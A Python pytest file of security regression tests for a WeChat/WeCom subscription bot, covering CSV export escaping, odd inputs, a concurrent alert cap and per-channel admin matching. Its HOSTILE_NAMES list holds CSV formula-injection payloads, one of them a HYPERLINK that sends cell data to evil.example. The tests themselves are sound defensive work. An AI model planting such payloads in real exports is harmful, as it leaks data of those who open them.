"""Finding 8: formulas in CSV exports, odd inputs that gave 500s, the alert cap under concurrent messages,
and `admins` matching a user id on any channel."""
from __future__ import annotations

import csv
import io
import logging
import os
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from sqlalchemy import func, select

from bot import subscribers as subs
from bot.models import Alert, Subscriber
from test_wecom import decrypt_reply, post_member, wecom_app  # noqa: F401 - a fixture
from tests.admin_helpers import PASSWORD, add_admin
from tests.security.live import Remote, browser, live_server, say, serve  # noqa: F401 - a fixture

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]


def test_exported_csv_cells_never_start_a_formula_on_the_web_and_the_command_line(bot, db_url, live_server):  # noqa: F811
    add_admin(bot)
    with bot.db.session() as session:  # names as a WeChat nickname or an earlier import may bring them
        session.add_all(Subscriber(channel="wechat", external_id=f"o-csv-{i}", display_name=name, products=[],
                                   daily_summary=True, status="active", language="zh")
                        for i, name in enumerate(HOSTILE_NAMES))
    session, answer = browser(live_server, "alice", PASSWORD)
    assert answer.status_code == 302
    web = session.get(f"{live_server}/admin/subscribers/export.csv", timeout=30).content.decode("utf-8-sig")
    env = {k: v for k, v in os.environ.items() if not k.startswith("REBOT_")}
    cli = subprocess.run([str(Path(sys.executable).parent / "rebot"), "subscribers", "export"], capture_output=True,
                         text=True, env={**env, "REBOT_DATABASE_URL": db_url}, timeout=60).stdout
    for exported in (web, cli):
        rows = list(csv.DictReader(io.StringIO(exported, newline="")))
        names = [r["display_name"] for r in rows if r["external_id"].startswith("o-csv-")]
        assert len(names) == len(HOSTILE_NAMES) and all(n.startswith("'") for n in names), names
        cells = [cell for row in rows for cell in row.values()]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    with bot.db.session() as db_session:  # an export imported again gives back the same names
        subs.import_csv(db_session, "test", web, ["PrNd-oxide", "Dy-oxide"])
        assert sorted(s.display_name for s in subs.search(db_session, "o-csv-").rows) == sorted(
            n.strip() for n in HOSTILE_NAMES)


def test_odd_inputs_get_a_4xx_and_never_a_traceback(bot, live_server, caplog):  # noqa: F811
    add_admin(bot)
    session, _answer = browser(live_server, "alice", PASSWORD)
    caplog.set_level(logging.INFO)
    for path in ("/m/?day=x", f"/admin/subscribers?page={10 ** 18}", f"/admin/subscribers/{10 ** 30}",
                 f"/admin/pushes/{10 ** 30}", "/admin/subscribers?q=" + "1" * 5000,
                 "/admin/pushes/preview?subscriber=" + "1" * 5000):
        status = session.get(live_server + path, timeout=30).status_code
        assert 400 <= status < 500 or (status == 200 and "?q=" in path), (path, status)
    reply = say(live_server, "news " + "1" * 5000)
    assert "went wrong" not in reply and "系统出了点问题" not in reply
    assert not [r for r in caplog.records if r.exc_info or r.levelno >= logging.ERROR]


def test_ten_concurrent_alert_messages_never_exceed_the_cap(make_app):
    app = make_app(**{"alerts.max_per_user": 3})
    with serve(app) as base:
        say(base, "订阅", user="o-alerts")
        with ThreadPoolExecutor(10) as pool:
            replies = list(pool.map(lambda i: say(base, f"提醒 镨钕 > {460_000 + i * 1000}", user="o-alerts"),
                                    range(10)))
    with app.extensions["rebot"].db.session() as session:
        assert session.scalar(select(func.count()).select_from(Alert)) == 3
    assert sum(r.startswith("您已有 3 条提醒，已达上限") for r in replies) == 7, replies


def test_an_official_account_admin_id_does_not_make_a_wecom_user_of_that_name_an_admin(wecom_app):  # noqa: F811
    app = wecom_app(admins=["oBossOpenid", "wecom:lisi"])
    with serve(app) as base:
        impostor = decrypt_reply(post_member(Remote(base), "admin stats", user="oBossOpenid"))["Content"]
        real = decrypt_reply(post_member(Remote(base), "admin stats", user="lisi"))["Content"]
    assert impostor.startswith("Sorry, I did not understand that."), impostor  # as anyone not an admin
    assert real.startswith("Subscribers:"), real


def test_check_config_warns_about_an_admin_without_a_channel(tmp_path):
    env = {k: v for k, v in os.environ.items() if not k.startswith("REBOT_")}
    result = subprocess.run([str(Path(sys.executable).parent / "rebot"), "check-config"], capture_output=True,
                            text=True, env={**env, "REBOT_ADMINS": "oBossOpenid,wecom:lisi"}, cwd=tmp_path, timeout=60)
    assert result.returncode == 0
    assert result.stderr.splitlines() == ["warning: admins[0]: 'oBossOpenid' names no channel: read as "
                                          "wechat:oBossOpenid (the Official Account); write wechat:oBossOpenid "
                                          "or wecom:oBossOpenid"]
